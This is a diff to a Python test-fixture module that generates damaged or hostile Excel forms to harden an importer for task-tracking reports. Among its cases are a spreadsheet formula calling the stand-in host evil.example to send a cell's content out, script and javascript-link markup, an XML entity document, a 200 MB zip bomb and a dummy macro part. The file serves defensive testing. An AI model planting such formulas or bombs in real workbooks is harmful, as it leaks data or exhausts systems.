@@ -6,9 +6,13 @@ trimmed report) and breaks it in place.
 
 from __future__ import annotations
 
+import io
 import os
+import re
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 from plantrack.io.limits import DEFAULT_LIMITS
 from tests.hardening.corpus import CASES_DIR
@@ -69,6 +73,172 @@ def yml_extension(root: Path, target: Path) -> None:
     target.rename(target.with_suffix(".yml"))
 
 
+# --- Excel forms: xa-tra-don's 2024-Q3 form of the mini repository, then damaged -------------
+# "Nhiệm vụ" lists t1 on row 5 and t2 on row 6: E state, F completion date, G progress,
+# I results. Forms are made by plantrack's own exporter, so they follow its current layout.
+
+TASKS = "Nhiệm vụ"
+
+
+def _form(root: Path) -> bytes:
+    from plantrack.forms.content import open_repository
+    from plantrack.forms.export import make_form
+
+    data, findings = make_form(open_repository(root), "xa-tra-don", "2024-Q3")
+    assert data is not None, findings
+    return data
+
+
+def _edited(root: Path, target: Path, change: Callable[[Any], None]) -> None:
+    """The form with ``change`` applied to the workbook by openpyxl, as a user's Excel would."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(_form(root)))
+    change(book)
+    book.save(target)
+
+
+def _cells(**values: Any) -> Callable[[Any], None]:
+    def change(book: Any) -> None:
+        for ref, value in values.items():
+            book[TASKS][ref] = value
+
+    return change
+
+
+def _rezipped(data: bytes, edit: Callable[[str, bytes], bytes], extra: dict[str, bytes]) -> bytes:
+    """The zip ``data`` with each entry passed through ``edit`` and ``extra`` entries added."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(data)) as old,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for info in old.infolist():
+            new.writestr(info, edit(info.filename, old.read(info.filename)))
+        for name, payload in extra.items():
+            new.writestr(name, payload)
+    return out.getvalue()
+
+
+def _tasks_part(data: bytes) -> str:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(data), read_only=True)
+    return f"xl/worksheets/sheet{book.sheetnames.index(TASKS) + 1}.xml"
+
+
+def many_rows(root: Path, target: Path, *, last: int = 100_006, honest: bool) -> None:
+    """Answer rows 7 to ``last`` under the tasks (column I), written straight into the sheet's
+    XML; the declared ``<dimension>`` is updated, or left saying six rows."""
+    data = _form(root)
+    part = _tasks_part(data)
+    rows = "".join(
+        f'<row r="{n}"><c r="I{n}" t="inlineStr"><is><t>x</t></is></c></row>'
+        for n in range(7, last + 1)
+    ).encode()
+
+    def edit(name: str, xml: bytes) -> bytes:
+        if name != part:
+            return xml
+        xml = xml.replace(b"</sheetData>", rows + b"</sheetData>", 1)
+        if honest:
+            real = rb'<dimension ref="A1:\g<1>' + str(last).encode() + b'"'
+            xml = re.sub(rb'<dimension ref="A1:([A-Z]+)\d+"', real, xml)
+        return xml
+
+    target.write_bytes(_rezipped(data, edit, {}))
+
+
+def form_formula(root: Path, target: Path) -> None:
+    _edited(root, target, _cells(G5="=50+50"))
+
+
+def form_webservice_formula(root: Path, target: Path) -> None:
+    _edited(root, target, _cells(I5='=WEBSERVICE("http://evil.example/?q="&A5)'))
+
+
+def form_state_typed(root: Path, target: Path) -> None:
+    _edited(root, target, _cells(E5="xong"))
+
+
+def form_date_as_words(root: Path, target: Path) -> None:
+    _edited(root, target, _cells(F5="mười tháng chín"))
+
+
+def form_impossible_date(root: Path, target: Path) -> None:
+    _edited(root, target, _cells(F5="31/02/2024"))
+
+
+def form_progress_text(root: Path, target: Path) -> None:
+    _edited(root, target, _cells(G5="nửa"))
+
+
+def form_progress_over_100(root: Path, target: Path) -> None:
+    _edited(root, target, _cells(G5=150))
+
+
+def form_merged_cells(root: Path, target: Path) -> None:
+    _edited(root, target, lambda book: book[TASKS].merge_cells("I5:I6"))
+
+
+def form_hidden_row(root: Path, target: Path) -> None:
+    def hide(book: Any) -> None:
+        book[TASKS].row_dimensions[6].hidden = True
+
+    _edited(root, target, hide)
+
+
+def form_hostile_text(root: Path, target: Path) -> None:
+    """Answers that would be markup or a formula elsewhere: plain text here, no finding."""
+    _edited(root, target, _cells(I5="<script>alert(1)</script> | [x](javascript:alert(1))"))
+
+
+def form_external_link(root: Path, target: Path) -> None:
+    link = {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
+    target.write_bytes(_rezipped(_form(root), lambda n, x: x, link))
+
+
+def form_macro_inside(root: Path, target: Path) -> None:
+    target.write_bytes(_rezipped(_form(root), lambda n, x: x, {"xl/vbaProject.bin": bytes(64)}))
+
+
+def form_macro_name(root: Path, target: Path) -> None:
+    """The form saved as a macro-enabled workbook (the table names it .xlsm)."""
+    target.write_bytes(_form(root))
+
+
+def form_dtd(root: Path, target: Path) -> None:
+    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>'
+
+    def edit(name: str, xml: bytes) -> bytes:
+        return bomb if name == "docProps/app.xml" else xml
+
+    target.write_bytes(_rezipped(_form(root), edit, {}))
+
+
+def form_zip_bomb(root: Path, target: Path) -> None:
+    """A 200 MB part of zeros, a few hundred KB once compressed."""
+    target.write_bytes(
+        _rezipped(_form(root), lambda n, x: x, {"xl/media/zeros.bin": bytes(200 << 20)})
+    )
+
+
+def form_100000_rows(root: Path, target: Path) -> None:
+    many_rows(root, target, honest=True)
+
+
+def form_100000_rows_hidden_size(root: Path, target: Path) -> None:
+    many_rows(root, target, honest=False)
+
+
+def form_yaml_renamed(root: Path, target: Path) -> None:
+    target.write_bytes(VALID.read_bytes())
+
+
+def form_old_xls(root: Path, target: Path) -> None:
+    target.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024))
+
+
 GENERATORS: dict[str, Callable[[Path, Path], None]] = {
     f.__name__: f
     for f in (
@@ -79,5 +249,24 @@ GENERATORS: dict[str, Callable[[Path, Path], None]] = {
         symlink_loop,
         fifo,
         yml_extension,
+        form_formula,
+        form_webservice_formula,
+        form_state_typed,
+        form_date_as_words,
+        form_impossible_date,
+        form_progress_text,
+        form_progress_over_100,
+        form_merged_cells,
+        form_hidden_row,
+        form_hostile_text,
+        form_external_link,
+        form_macro_inside,
+        form_macro_name,
+        form_dtd,
+        form_zip_bomb,
+        form_100000_rows,
+        form_100000_rows_hidden_size,
+        form_yaml_renamed,
+        form_old_xls,
     )
 }
